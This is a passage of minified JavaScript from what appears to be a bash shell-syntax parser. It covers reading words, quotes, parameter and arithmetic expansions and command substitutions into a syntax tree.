c!==-1){let d=c;for(;d<l&&o.charCodeAt(d)!==41;)d++;if(d<l||this.parenBoundary&&l===i){let u=this.pos;return this.pos=c,u}}this.pos=l<i?l+1:l}return this.pos}_wordText="";_wordRaw=!1;_wordQuoted=!1;_wordHasExpansions=!1;_wordKeywordEligible=!1;_wordAssignmentState;_bracketWindow;_arithmeticBracketWindow;_wordParts=null;_resultText="";_resultIsRaw=!0;_resultHasExpansion=!1;_resultPart;_unbalanced=!1;_notArithmetic=!1;_arithUnterminated=!1;_dqText="";_dqHasExpansions=!1;_dqParts=null;_dqEnd=0;_hereDelim="";_hereQuoted=!1;readWord(e,s,r=0){
let n=this._errors===null?0:this._errors.length;if(this.readWordText(!1,s,!0),s===C.Normal){let o=this.pos<this.srcEnd?this.src.charCodeAt(this.pos):0;if(!this.
_wordRaw||o!==60&&o!==62){Ps(e,b.Word,r,this.pos,this._wordRaw),e.keywordEligible=this._wordKeywordEligible;return}}this.classifyWord(e,s,r,n)}isRedirectVariable(e,s){
let r=this.src;for(let n=e;n<s;n++){let o=r.charCodeAt(n);if(o===91&&n>e)return n+2<s&&r.charCodeAt(s-1)===93&&this.findClosingShellDelimiter(n+1,s,93)===s-1;if(o>=
128||!(fs[o]&(n===e?1:2)))return!1}return s>e}readArrayElement(e,s){let r=this.findClosingBracket(s+1);return r===-1?!1:(this.pos=r+1,this.readWordText(),Ps(e,b.
Word,s,this.pos,!0),!0)}classifyWord(e,s,r,n){let o=this.src,i=this._wordRaw,a=this._wordHasExpansions,l=this._wordQuoted,c=this._wordKeywordEligible,d=this._wordAssignmentState,
u=this.pos,p=u-r;if(s===C.CasePattern){let m=b.Word;if(c){let h=i?dh(o,r,p):sh.get(this.wordValueOf(r,u));h===b.Esac&&(m=h)}Ps(e,m,r,u,i),e.keywordEligible=c;return}
let f=null;if(!i&&!a&&c&&(s===C.CommandStart||s===C.TestMode)){let m=u<this.srcEnd?o.charCodeAt(u):0;(!l&&p<=16||m===60||m===62)&&(f=this.wordValueOf(r,u))}if(s===
C.CommandStart&&c){if(i){if(p<=8){let m=dh(o,r,p);if(m!==void 0){Ps(e,m,r,u,!0);return}}if(p===2&&o.charCodeAt(r)===91&&o.charCodeAt(r+1)===91){Ps(e,b.DblLBracket,
r,u,!0);return}}else if(f!==null&&f.length>0){let m=f.charCodeAt(0);if(m>=97&&m<=122&&f.length<=8||m===33||m===123||m===125){let h=sh.get(f);if(h!==void 0){Ce(e,
h,f,r,u);return}}if(m===91&&f==="[["){Ce(e,b.DblLBracket,f,r,u);return}}}if(s===C.CommandStart||s===C.CommandPrefix||s===C.Declaration){if(d===void 0){let m=-1,
h=!1;for(let g=r+1;g<u;g++){let y=o.charCodeAt(g);if(y===61){m=g;break}y===91&&(h=!0)}(m!==-1||s!==C.Declaration&&h)&&(d=mc(o,r,u,hc))}if(d!==void 0){if(s!==C.Declaration&&
d>=Be){if(u<this.srcEnd&&(this._errors!==null&&(this._errors.length=n),this.pos=r,this.readWordText(!0,s,!0),this.pos>u)){this.classifyWord(e,s,r,n);return}(this.
_errors===null||this._errors.length===n)&&this.errors.push({message:"unterminated array subscript",pos:o.indexOf("[",r)})}if(lh(d)){Ps(e,b.Assignment,r,u,i),f!==
null&&(e._value=f),e.assignmentOperatorPos=ch(d);return}}}if((s===C.CommandStart||s===C.TestMode)&&c){if(i){if(p===2&&o.charCodeAt(r)===93&&o.charCodeAt(r+1)===
93){Ps(e,b.DblRBracket,r,u,!0);return}}else if(f==="]]"){Ce(e,b.DblRBracket,f,r,u);return}}if(!a&&this.pos<this.srcEnd){let m=o.charCodeAt(this.pos);if((m===60||
m===62)&&i){let h=o.charCodeAt(r);if(h>=48&&h<=57&&p_(o,r,u)){let g=Number.parseInt(o.slice(r,u),10);if(this.readRedirection(e,r)){e.fileDescriptor=g,e.descriptorEnd=
u;return}}if(h===123&&o.charCodeAt(u-1)===125&&this.isRedirectVariable(r+1,u-1)){let g=o.slice(r+1,u-1);if(this.readRedirection(e,r)){e.variableName=g,e.descriptorEnd=
u;return}}}}Ps(e,b.Word,r,u,i),f!==null&&(e._value=f),e.keywordEligible=c}readWordText(e=!1,s=C.Normal,r=!1){let n=this.src,o=this.srcEnd,i=this.pos,a=i,l=0;for(;i<
o;){let q=n.charCodeAt(i);if(q<128&&le[q]){l=q;break}i++}if(i>=o||le[l]&1&&!(l===40&&i>a&&ms[n.charCodeAt(i-1)])&&!e){this.pos=i,this._wordText=(this._buildParts||
this._buildValue)&&i>a?n.slice(a,i):"",this._wordRaw=!0,this._wordQuoted=!1,this._wordHasExpansions=!1,this._wordKeywordEligible=!0,this._wordAssignmentState=void 0,
this._buildParts&&(this._wordParts=Ts(this._wordText)&&s!==C.ArrayElement?Bt(n,a,i,void 0)??null:null);return}let c=this._buildParts,d=c||this._buildValue,u=d&&
i>a?n.slice(a,i):"",p=!1,f=!1,m=!0,h=!0,g=i>a?n.charCodeAt(i-1):0,y=mc(n,a,i,hc),x,_="",E=0,$=!1,T;for(c&&(x=[],_=u,E=a,$=u.length>0&&Ts(u));i<o;){let q=n.charCodeAt(
i);if(q>=128||!le[q]){let A=i;for(i++;i<o;){let N=n.charCodeAt(i);if(N<128&&le[N])break;i++}if(g=n.charCodeAt(i-1),y=mc(n,A,i,y),d){let N=n.slice(A,i);u+=N,c&&(_+=
N,$=$||Ts(N))}continue}if(le[q]&1){if(e&&y>=Be){let A=this.findClosingBracket(i);if(A!==-1){let N=A+1;if(y=y===Be+1?gc:y-1,g=n.charCodeAt(A),d){let j=n.slice(i,
N);u+=j,c&&(_+=j,$=$||Ts(j))}i=N;continue}}if(q===40&&g<128&&ms[g]){if(s===C.FunctionName||y>=Be&&(s===C.CommandStart||s===C.CommandPrefix)||s===C.CommandStart&&
g===33&&m&&n.charCodeAt(a)===33&&rt(n,a+1,o)===i)break;let A=g;if(A===61&&r&&!((s===C.CommandStart||s===C.CommandPrefix||s===C.Declaration||s===C.EvalArgument)&&
lh(y)&&rt(n,ch(y)+1,o)===i))break;let N=i+1,j=this.findClosingShellDelimiter(N,o,41,A===61);if(j===-1&&!r&&!e&&y>=Be||s===C.CommandStart&&A!==61&&j!==-1&&In(n,N,
j)===j)break;m=!1;let xe=j===-1?o:j;if(i=j===-1?o:j+1,j===-1&&this.errors.push({message:"unterminated extended glob",pos:N-2}),g=n.charCodeAt(i-1),d){let V="("+
n.slice(N,i);if(u+=V,c&&A!==61){let ye=N-2;for(;n.charCodeAt(ye)===10&&n.charCodeAt(ye-1)===92;)ye-=2;if(_.length>0){let ne=_.slice(0,-1);ye>E&&x.push({type:"Li\
teral",pos:E,end:ye,value:ne,text:n.slice(E,ye)}),_=""}let U=u_[A];x.push({type:"ExtendedGlob",pos:ye,end:i,text:n.slice(ye,i),operator:U,pattern:n.slice(N,xe),
parts:this.subFieldParts(N,xe)}),E=i}else c&&(_+=V,$=$||Ts(V))}continue}break}if(q===92){i++,i<o?n.charCodeAt(i)===10?(i++,h=!1):(y>=0&&y<Be&&(y=xt),p=!0,m=!1,h=
!1,g=n.charCodeAt(i),d&&(u+=n[i],c&&(_+=n[i])),i++):(y>=0&&y<Be&&(y=xt),p=!0,m=!1,g=92,d&&(u+="\\",c&&(_+="\\")));continue}if(q===39){let A=i;y>=0&&y<Be&&(y=xt),
p=!0,m=!1,h=!1,i++;let N=i;for(;i<o&&n.charCodeAt(i)!==39;)i++;i>N&&(g=n.charCodeAt(i-1));let j=d?n.slice(N,i):"";d&&(u+=j),i<o?i++:this.errors.push({message:"u\
nterminated single quote",pos:N-1}),c&&(A>E&&(x.push({type:"Literal",pos:E,end:A,value:_,text:n.slice(E,A)}),_=""),x.push({type:"SingleQuoted",pos:A,end:i,value:j,
text:n.slice(A,i)}),E=i);continue}if(q===34){let A=i;if(y>=0&&y<Be&&(y=xt),p=!0,m=!1,h=!1,i++,this.pos=i,this.readDoubleQuoted(),i=this.pos,this._dqEnd>A+1&&(g=
n.charCodeAt(this._dqEnd-1)),this._dqHasExpansions&&(f=!0),d&&(u+=this._dqText),c){A>E&&(x.push({type:"Literal",pos:E,end:A,value:_,text:n.slice(E,A)}),_="");let N=n.
slice(A,i);x.push({type:"DoubleQuoted",pos:A,end:i,text:N,parts:this._dqParts??[{type:"Literal",pos:A+1,end:this._dqEnd,value:this._dqText,text:n.slice(A+1,this.
_dqEnd)}]}),E=i}continue}if(q===36){m=!1;let A=i;y>=0&&y<Be&&(y=xt);let N=i+1<o?n.charCodeAt(i+1):0;(N===39||N===34)&&(p=!0),this.pos=i,this.readDollar(),i=this.
pos,this._resultIsRaw||(h=!1),i>A&&(g=n.charCodeAt(i-1)),this._resultHasExpansion&&(f=!0),d&&(u+=this._resultText),c&&(this._resultPart?(A>E&&(x.push({type:"Lit\
eral",pos:E,end:A,value:_,text:n.slice(E,A)}),_=""),x.push(this._resultPart),E=i):_+=this._resultText);continue}if(q===96){m=!1;let A=i;y>=0&&y<Be&&(y=xt),this.
pos=i,this.readBacktickExpansion(),i=this.pos,h=!1,g=n.charCodeAt(i-1),f=!0,d&&(u+=this._resultText),c&&(A>E&&(x.push({type:"Literal",pos:E,end:A,value:_,text:n.
slice(E,A)}),_=""),x.push(this._resultPart),E=i);continue}if(q===123){y>=0&&y<Be&&(y=xt);let A=i+1<o?n.charCodeAt(i+1):0,N=A<=32||A===125?-1:this.scanBraceExpansion(
i,T??(T=new Map));if(N>0){if(m=!1,g=n.charCodeAt(N-1),d){let j=n.slice(i,N);u+=j,c&&(i>E&&(x.push({type:"Literal",pos:E,end:i,value:_,text:n.slice(E,i)}),_=""),
x.push({type:"BraceExpansion",pos:i,end:N,text:j,parts:this.subFieldParts(i+1,N-1)}),E=N)}i=N;continue}g=123,d&&(u+="{",c&&(_+="{")),i++;continue}i++}c&&i>E&&x.
push({type:"Literal",pos:E,end:i,value:_,text:n.slice(E,i)}),this.pos=i,this._wordText=u,this._wordRaw=h,this._wordQuoted=p,this._wordHasExpansions=f,this._wordKeywordEligible=
m,this._wordAssignmentState=y,c&&(this._wordParts=x.length>1||x.length===1&&x[0].type!=="Literal"?x:null,$&&s!==C.ArrayElement&&(this._wordParts=Bt(n,a,i,this._wordParts)??
null))}readInnerWordText(e=!1,s=!1,r=!1){let n=this.src,o=this.srcEnd,i=this.pos,a=i,l="",c=this._buildParts,d,u="",p=0,f=!1,m=!1;for(c&&(d=[],p=i);i<o;){let h=n.
charCodeAt(i);if(h===92){if(i++,i<o)if(n.charCodeAt(i)===10)i++;else{let g=n.charCodeAt(i);e&&g!==36&&g!==96&&g!==34&&g!==92&&g!==125&&(l+="\\",c&&(u+="\\"),f=!0);
let y=n[i++];l+=y,c&&(u+=y)}continue}if(h===39&&!e){let g=i;i++;let y=i;for(;i<o&&n.charCodeAt(i)!==39;)i++;let x=n.slice(y,i);l+=x,i<o&&i++,c&&(g>p&&(d.push({type:"\
Literal",pos:p,end:g,value:u,text:n.slice(p,g)}),u=""),d.push({type:"SingleQuoted",pos:g,end:i,value:x,text:n.slice(g,i)}),p=i);continue}if(h===34){let g=i;if(i++,
this.pos=i,this.readDoubleQuoted(e),i=this.pos,l+=this._dqText,c){g>p&&(d.push({type:"Literal",pos:p,end:g,value:u,text:n.slice(p,g)}),u="");let y=n.slice(g,i);
d.push({type:"DoubleQuoted",pos:g,end:i,text:y,parts:this._dqParts??[{type:"Literal",pos:g+1,end:this._dqEnd,value:this._dqText,text:n.slice(g+1,this._dqEnd)}]}),
p=i}continue}if(h===36){let g=i;this.pos=i,this.readDollar(e),i=this.pos,l+=this._resultText,c&&(this._resultPart?(g>p&&(d.push({type:"Literal",pos:p,end:g,value:u,
text:n.slice(p,g)}),u=""),d.push(this._resultPart),p=i):u+=this._resultText);continue}if(h===96){let g=i;this.pos=i,this.readBacktickExpansion(e),i=this.pos,l+=
this._resultText,c&&(g>p&&(d.push({type:"Literal",pos:p,end:g,value:u,text:n.slice(p,g)}),u=""),d.push(this._resultPart),p=i);continue}if(!e&&!s&&(h===60||h===62)&&
i+1<o&&n.charCodeAt(i+1)===40){let g=i;this.pos=i+2;let y=this.extractBalanced();i=this.pos;let x=n.slice(g,i);l+=x,c&&(g>p&&(d.push({type:"Literal",pos:p,end:g,
value:u,text:n.slice(p,g)}),u=""),d.push(this.processSubstitution(g,x,h===60?"<":">",y)),p=i);continue}l+=n[i],c&&(u+=n[i],r&&(h===42||h===63||h===91)&&(m=!0)),
i++}c&&i>p&&d.push({type:"Literal",pos:p,end:i,value:u,text:n.slice(p,i)}),this.pos=i,this._wordText=l,this._wordRaw=!1,this._wordQuoted=!1,this._wordHasExpansions=
!1,this._wordKeywordEligible=!1,c&&(this._wordParts=d.length>1||d.length===1&&(d[0].type!=="Literal"||f)?d:null,m&&(this._wordParts=Bt(n,a,i,this._wordParts)??null))}subFieldParts(e,s){
if(!(this._nestingDepth>=256))return zr(this.src,e,s)?this.parseSubFieldWord(e,s).parts:Bt(this.src,e,s,void 0)}parseSubFieldWord(e,s,r="word",n=!1){if(e>=s)return new We(
"",e,e);if(this._nestingDepth>=256)return new We(this.src.slice(e,s),e,s);this._nestingDepth++;let o=this.srcEnd,i=this._bracketWindow,a=this._arithmeticBracketWindow,
l=this.pos,c=this._wordText,d=this._wordParts,u=this._wordQuoted,p=this._wordKeywordEligible;this.srcEnd=s,this.pos=e,this.readInnerWordText(r==="quoted",n,r===
"word");let f=new We(this.src.slice(e,s),e,s);return this._buildParts&&(f.parts=this._wordParts??void 0),this.srcEnd=o,this._bracketWindow=i,this._arithmeticBracketWindow=
a,this.pos=l,this._wordText=c,this._wordParts=d,this._wordQuoted=u,this._wordKeywordEligible=p,this._nestingDepth--,f}skipSQ(){for(;this.pos<this.srcEnd&&this.src.
charCodeAt(this.pos)!==39;)this.pos++;this.pos<this.srcEnd&&this.pos++}skipAnsiCQuoted(){let e=this.pos-1,s=Rn(this.src,this.pos,this.srcEnd);this.pos=s.end,s.closed||
this.errors.push({message:"unterminated ANSI-C quote",pos:e})}skipDQ(){let e=this.src,s=this.srcEnd;if(this._unbalanced=!1,this._nestingDepth<256)for(;this.pos<
s;){let r=e.charCodeAt(this.pos);if(r===34){this.pos++;return}if(r===92){this.pos=Math.min(this.pos+2,s);continue}if(r===96)break;if(r===36){let n=e.charCodeAt(
this.pos+1);if(n===40||n===123||n===36)break}this.pos++}this.extractBalanced(!0,!0)}skipSpacesAndTabs(){this.pos=In(this.src,this.pos,this.srcEnd)}readDoubleQuoted(e=!1){
let s=this.src,r=this.srcEnd,n=this.pos,o=!1,i=this._buildParts,a=i||this._buildValue;if(!i){let p=this.pos;for(;p<r;){let f=s.charCodeAt(p);if(f===34){this._dqText=
a?s.slice(n,p):"",this._dqEnd=p,this.pos=p+1,this._dqHasExpansions=!1,this._dqParts=null;return}if(f===36||f===96||f===92)break;p++}}let l="",c=null,d="",u=i?this.
pos:0;for(;this.pos<r&&s.charCodeAt(this.pos)!==34;){let p=this.pos;for(;this.pos<r;){let m=s.charCodeAt(this.pos);if(m===34||m===92||m===36||m===96)break;this.
pos++}if(a&&this.pos>p){let m=s.slice(p,this.pos);l+=m,i&&(d+=m)}if(this.pos>=r||s.charCodeAt(this.pos)===34)break;let f=s.charCodeAt(this.pos);if(f===92){if(this.
pos++,this.pos<r){let m=s.charCodeAt(this.pos);if(m===10){this.pos++;continue}if(a)if(e||m===36||m===96||m===34||m===92){let h=s[this.pos];l+=h,i&&(d+=h)}else{let h="\
\\"+s[this.pos];l+=h,i&&(d+=h)}this.pos++}continue}if(f===36){let m=this.pos+1<r?s.charCodeAt(this.pos+1):0;if(m===34||m===39){a&&(l+="$",i&&(d+="$")),this.pos++;
continue}let h=this.pos;if(this.readDollar(!0),a&&(l+=this._resultText),this._resultHasExpansion&&(o=!0),i){let g=this._resultPart;g&&oh(g)?(c||(c=[]),h>u&&(c.push(
{type:"Literal",pos:u,end:h,value:d,text:s.slice(u,h)}),d=""),c.push(g),u=this.pos):d+=this._resultText}continue}if(f===96){let m=this.pos;this.readBacktickExpansion(
!0),a&&(l+=this._resultText),o=!0,i&&this._resultPart&&oh(this._resultPart)&&(c||(c=[]),m>u&&(c.push({type:"Literal",pos:u,end:m,value:d,text:s.slice(u,m)}),d=""),
c.push(this._resultPart),u=this.pos);continue}}i&&c&&this.pos>u&&c.push({type:"Literal",pos:u,end:this.pos,value:d,text:s.slice(u,this.pos)}),this._dqEnd=this.pos,
this.pos<r?this.pos++:this.errors.push({message:"unterminated double quote",pos:n-1}),this._dqText=l,this._dqHasExpansions=o,this._dqParts=c}readDollar(e=!1){let s=this.
pos;this.pos++;let r=this.src,n=this.srcEnd,o=this._buildParts||this._buildValue;if(this.pos>=n){this._resultText="$",this._resultIsRaw=!0,this._resultHasExpansion=
!1,this._resultPart=void 0;return}let i=rt(r,this.pos,n);i>this.pos&&r.charCodeAt(i)===40&&r.charCodeAt(i+1)!==40&&(this.pos=i);let a=r.charCodeAt(this.pos);if(a===
40){if(this.pos+1<n&&r.charCodeAt(this.pos+1)===40){let l=this.pos,c=this.errors.length;if(this.readArithmeticExpansion(s),!this._notArithmetic)return;this.errors.
length=c,this.pos=l}this.readCommandSubstitution(s);return}if(a===123){let l=this.pos+1<n?r.charCodeAt(this.pos+1):0;if(l===32||l===9||l===10){this.readBraceCommandSubstitution();
return}if(l===124){this.readValueSubstitution();return}this.readParameterExpansion(e);return}if(a===39){if(this.pos++,o){let l=this.readAnsiCQuoted();this._resultText=
l,this._resultPart=this._buildParts?{type:"AnsiCQuoted",pos:s,end:this.pos,text:r.slice(s,this.pos),value:l}:void 0}else this.skipAnsiCQuoted(),this._resultText=
"",this._resultPart=void 0;this._resultIsRaw=!1,this._resultHasExpansion=!1;return}if(a===34){if(this.pos++,this.readDoubleQuoted(e),this._resultText=this._dqText,
this._resultIsRaw=!1,this._resultHasExpansion=this._dqHasExpansions,this._buildParts){let l=r.slice(s,this.pos);this._resultPart={type:"LocaleString",pos:s,end:this.
pos,text:l,parts:this._dqParts??[{type:"Literal",pos:s+2,end:this._dqEnd,value:this._dqText,text:r.slice(s+2,this._dqEnd)}]}}else this._resultPart=void 0;return}
if(a===64||a===42||a===35||a===63||a===45||a===36||a===33||a>=48&&a<=57){this.pos++;let l=o?r.slice(this.pos-2,this.pos):"";this._resultText=l,this._resultIsRaw=
!0,this._resultHasExpansion=!1,this._resultPart=this._buildParts?{type:"SimpleExpansion",pos:s,end:this.pos,text:l}:void 0;return}if(a<128&&fs[a]&1){let l=this.
pos-1;for(;this.pos<n;){let d=r.charCodeAt(this.pos);if(d<128&&fs[d]&2)this.pos++;else break}let c=o?r.slice(l,this.pos):"";this._resultText=c,this._resultIsRaw=
!0,this._resultHasExpansion=!1,this._resultPart=this._buildParts?{type:"SimpleExpansion",pos:s,end:this.pos,text:c}:void 0;return}if(a===91){let l=this._errors===
null?0:this._errors.length,c=this.findClosingArithmeticBracket(this.pos+1);if(c!==-1){let d=this.pos+1,u=r.slice(d,c);this.pos=c+1;let p=o?r.slice(s,this.pos):"";
this._resultText=p,this._resultIsRaw=!0,this._resultHasExpansion=!1,this._resultPart=this._buildParts?this.arithmeticExpansion(d-2,p,u,d):void 0;return}this._errors!==
null&&(this._errors.length=l)}this._resultText="$",this._resultIsRaw=!0,this._resultHasExpansion=!1,this._resultPart=void 0}scanArithmeticBody(){this._notArithmetic=
!1,this._arithUnterminated=!1,this.pos+=2;let e=1,s=0,r=0,n,o=!1,i=this.src,a=this.srcEnd,l=this.pos;for(;this.pos<a&&e>0;){let d=i.charCodeAt(this.pos);if(d===
92)this.pos+=this.pos+1<a?2:1;else if(d===39)this.pos++,this.skipSQ();else if(d===34)this.pos++,this.skipDQ();else if(d===96){for(this.pos++;this.pos<a&&i.charCodeAt(
this.pos)!==96;)i.charCodeAt(this.pos)===92&&this.pos++,this.pos++;this.pos<a&&this.pos++}else if(d===36&&this.pos+2<a&&i.charCodeAt(this.pos+1)===40&&i.charCodeAt(
this.pos+2)!==40){let u=this.pos;this.pos+=2,this.extractBalanced(),this._unbalanced&&this.errors.push({message:"unterminated command substitution",pos:u})}else if(d===
36&&this.pos+1<a&&i.charCodeAt(this.pos+1)===123){let u=this.findClosingBrace(this.pos+2,a);this.pos=u===-1?a:u+1}else if((d===60||d===62)&&this.pos+1<a&&i.charCodeAt(
this.pos+1)===40)this.pos+=2,this.extractBalanced();else if(d===40)i.charCodeAt(this.pos-1)===36&&i.charCodeAt(this.pos+1)===40?(e===1?r=s:(n??(n=[])).push(s),e++,
s=0,e+this._nestingDepth>256&&!o&&(this.errors.push({message:"maximum arithmetic expansion nesting depth exceeded",pos:this.pos-1}),o=!0),this.pos+=2):(++s+e-1+
this._nestingDepth>256&&!o&&(this.errors.push({message:"maximum arithmetic expression nesting depth exceeded",pos:this.pos}),o=!0),this.pos++);else if(d===41&&s>
0)s--,this.pos++;else if(d===41&&this.pos+1<a&&i.charCodeAt(this.pos+1)===41){if(--e===0){this.pos+=2;break}s=e===1?r:n.pop(),this.pos+=2}else{if(d===41&&e===1)
return this._notArithmetic=!0,"";this.pos++}}let c=this._buildParts||this._buildValue;return e>0?(this._arithUnterminated=!0,c?i.slice(l,this.pos):""):c?i.slice(
l,this.pos-2):""}readArithmeticExpansion(e){let s=this.pos+2,r=this.scanArithmeticBody();if(this._notArithmetic)return;this._arithUnterminated&&this.errors.push(
{message:"unterminated arithmetic expansion",pos:e});let n=this._buildParts||this._buildValue?this.src.slice(e,this.pos):"";this._resultText=n,this._resultIsRaw=
!0,this._resultHasExpansion=!1,this._resultPart=this._buildParts?this.arithmeticExpansion(e,n,r,s):void 0}arithmeticExpansion(e,s,r,n){return new Fr(e,this.pos,
s,{source:this.src,body:r,offset:n,depth:this._nestingDepth,context:this.substitutionContext})}readArithmeticCommand(e,s){let r=this._buildValue;this._buildValue=
!0;let n=this.scanArithmeticBody();this._buildValue=r,this._arithUnterminated&&this.errors.push({message:"unterminated arithmetic command",pos:s}),Ce(e,b.ArithCmd,
n,s,this.pos)}readCommandSubstitution(e){let s=this.pos;this.pos++;let r=this.extractBalanced();this._unbalanced&&this.errors.push({message:"unterminated comman\
d substitution",pos:e});let n=this._buildParts||this._buildValue,o=n?this.src.slice(e,this.pos):"",i=!n||s===e+1?o:"$"+this.src.slice(s,this.pos);this._resultText=
i,this._resultIsRaw=s===e+1,this._resultHasExpansion=!0,this._buildParts?this._resultPart=this.commandExpansion(e,o,s+1,r,!this._unbalanced):this._resultPart=void 0}readBraceCommandSubstitution(){
this.readBraceSubstitution(1)}readValueSubstitution(){this.readBraceSubstitution(2)}readBraceSubstitution(e){let s=this.pos-1;this.pos+=e;let r=this.src,n=this.
srcEnd,o=1,i=this.pos;for(;this.pos<n;){let a=r.charCodeAt(this.pos);if(a===123)o++;else if(a===125){if(--o===0){this.pos++;break}}else if(a===39){this.pos++,this.
skipSQ();continue}else if(a===34){this.pos++,this.skipDQ();continue}else a===92&&this.pos++;this.pos++}if(this._resultIsRaw=!0,this._resultHasExpansion=!0,this.
_buildParts||this._buildValue){let a=r.slice(i,this.pos-1),l=a.trim(),c=r.slice(s,this.pos);if(this._resultText=c,this._buildParts){let d=i+(a.length-a.trimStart().
length);this._resultPart=this.commandExpansion(s,c,d,l)}else this._resultPart=void 0}else this._resultText="",this._resultPart=void 0}readBacktickExpansion(e=!1){
this.pos++;let s=this.src,r=this.srcEnd,n=this.pos;if(!this._buildParts&&!this._buildValue){for(;this.pos<r&&s.charCodeAt(this.pos)!==96;)s.charCodeAt(this.pos)===
92&&this.pos+1<r&&this.pos++,this.pos++;this.pos<r?this.pos++:this.errors.push({message:"unterminated backtick",pos:n-1}),this._resultText="",this._resultIsRaw=
!1,this._resultHasExpansion=!0,this._resultPart=void 0;return}let o="",i=!1;for(;this.pos<r&&s.charCodeAt(this.pos)!==96;){if(s.charCodeAt(this.pos)===92){i=!0;
break}this.pos++}if(!i)o=s.slice(n,this.pos);else for(o=s.slice(n,this.pos);this.pos<r&&s.charCodeAt(this.pos)!==96;)if(s.charCodeAt(this.pos)===92){if(this.pos++,
this.pos<r){let l=s.charCodeAt(this.pos);l===36||l===96||l===92||e&&l===34?o+=s[this.pos]:o+="\\"+s[this.pos],this.pos++}}else{let l=this.pos;for(;this.pos<r;){
let c=s.charCodeAt(this.pos);if(c===96||c===92)break;this.pos++}o+=s.slice(l,this.pos)}this.pos<r?this.pos++:this.errors.push({message:"unterminated backtick",pos:n-
1});let a=s.slice(n-1,this.pos);this._resultText=o,this._resultHasExpansion=!0,this._buildParts?this._resultPart=i?this.decodedCommandExpansion(n-1,a,o):this.commandExpansion(
n-1,a,n,o):this._resultPart=void 0}readParameterExpansion(e){let s=this.src,r=this.srcEnd,n=this.pos;this.pos++;let o=1,i=!1;for(;this.pos<r&&o>0;){let c=s.charCodeAt(
this.pos);if(c===36){let d=this.pos+1<r?s.charCodeAt(this.pos+1):0;if(d===123){o++,this._nestingDepth+o>256&&!i&&(this.errors.push({message:"maximum parameter e\
xpansion nesting depth exceeded",pos:this.pos}),i=!0),this.pos+=2;continue}if(d===36){this.pos+=2;continue}if(d===40){let u=this.pos;this.pos+=2,this.extractBalanced(),
this._unbalanced&&this.errors.push({message:"unterminated command substitution",pos:u});continue}}else if(c===96){for(this.pos++;this.pos<r&&s.charCodeAt(this.pos)!==
96;)s.charCodeAt(this.pos)===92&&this.pos++,this.pos++;this.pos<r&&this.pos++;continue}else if(c===125){if(--o===0){this.pos++;break}}else if(c===92)this.pos+1<
r&&this.pos++;else if(c===39){this.pos++,this.pos>n+1&&s.charCodeAt(this.pos-2)===36?this.skipAnsiCQuoted():this.skipSQ();continue}else if(c===34){this.pos++,this.
skipDQ();continue}this.pos++}let a=o===0;a||this.errors.push({message:"unterminated parameter expansion",pos:n-1});let l=this._buildParts||this._buildValue?s.slice(
n-1,this.pos):"";if(this._resultText=l,this._resultIsRaw=!0,this._resultHasExpansion=!1,this._buildParts){let c=s.slice(n+1,a?this.pos-1:this.pos);this._resultPart=
this.parseParamInner(l,c,n+1,e)}else this._resultPart=void 0}parseParamInner(e,s,r,n){let o={type:"ParameterExpansion",pos:r-2,end:this.pos,text:e,parameter:"",
parameterPos:r,parameterEnd:r,prefix:void 0,index:void 0,operation:void 0},i=s.length;if(i===0)return o;let a=(g,y,x="word")=>this.parseSubFieldWord(r+g,r+y,x),
l=g=>{let y=this.findClosingBracket(r+g,r+i);return y===-1?-1:y-r},c=0;if(i>1&&s.charCodeAt(0)===33&&(o.prefix="!",c=1),i>1&&s.charCodeAt(0)===35){let g=this.scanParamName(
s,1),y=g,x=-1;if(y<i&&s.charCodeAt(y)===91&&(x=l(y+1),x!==-1&&(y=x+1)),g>1&&y===i)return o.prefix="#",o.parameter=s.slice(1,g),o.parameterPos=r+1,o.parameterEnd=
r+g,x!==-1&&(o.index=a(g+1,x,"embedded")),o}let d=c;if(c=this.scanParamName(s,c),o.parameter=s.slice(d,c),o.parameterPos=r+d,o.parameterEnd=r+c,c<i&&s.charCodeAt(
c)===91){let g=l(c+1);g!==-1&&(o.index=a(c+1,g,"embedded"),c=g+1)}if(c>=i)return o;let u=r+c,p=r+i,f=s.charCodeAt(c),m=s.charCodeAt(c+1),h=s[f===58?c+1:c];if(h===
"-"||h==="="||h==="+"||h==="?"){let g=c+(f===58?2:1);return o.operation={type:"Default",pos:u,end:p,operatorEnd:r+g,operator:f===58?`:${h}`:h,operand:a(g,i,n?"q\
uoted":"word")},o}if(f===58){c++;let g=r+c,y=rh(s.slice(c),58,!0,(x,_)=>this.findNestedShellEnd(g+x,p,_)-g);return o.operation={type:"Slice",pos:u,end:p,operatorEnd:g,
operator:":",offset:a(c,y===-1?i:c+y,"embedded"),length:y===-1?void 0:a(c+y+1,i,"embedded")},o}if(f===35||f===37){let g=m===f,y=f===35?g?"##":"#":g?"%%":"%",x=c+
(g?2:1);return o.operation={type:"Remove",pos:u,end:p,operatorEnd:r+x,operator:y,operand:a(x,i)},o}if(f===47){c++;let g="/";(m===47||m===35||m===37)&&(g=m===47?
"//":m===35?"/#":"/%",c++);let y=c;m===47&&(y=rt(s,c,i),s.charCodeAt(y)===47&&y++);let x=rh(s.slice(y),47),_=x===-1?i:y+x;return o.operation={type:"Replace",pos:u,
end:p,operatorEnd:r+c,operator:g,pattern:a(c,_),replacement:a(x===-1?i:_+1,i)},o}if(f===94||f===44){let g=m===f,y=f===94?g?"^^":"^":g?",,":",",x=c+(g?2:1);return o.
operation={type:"CaseModification",pos:u,end:p,operatorEnd:r+x,operator:y,operand:x===i?void 0:a(x,i)},o}return o.prefix==="!"&&o.index===void 0&&c+1===i&&(f===
64||f===42)?(o.operation={type:"Names",pos:u,end:p,operatorEnd:p,operator:f===64?"@":"*"},o):f===64?(o.operation={type:"Transform",pos:u,end:p,operatorEnd:u+1,operator:"\
@",operand:a(c+1,i)},o):(o.operation={type:"Unknown",pos:u,end:p,operatorEnd:p,operator:s.slice(c)},o)}findNestedShellEnd(e,s,r){let n=this.src.charCodeAt(e);if(n===
96){let i=e+1;for(;i<s;){let a=this.src.charCodeAt(i);if(a===92){i+=2;continue}if(i++,a===96)return i}return s}let o;if(n===36){let i=e+1;if(i<s&&this.src.charCodeAt(
i)===123)o=this.findClosingBrace(i+1,s);else{let a=rt(this.src,i,s);if(a>=s||this.src.charCodeAt(a)!==40)return e;o=this.findClosingParenthesis(a+1,s)}}else{let i=e+
1;if(r||n!==60&&n!==62||i>=s||this.src.charCodeAt(i)!==40)return e;o=this.findClosingParenthesis(i+1,s)}return o===-1?s:o+1}scanParamName(e,s){let r=s;if(r>=e.length)
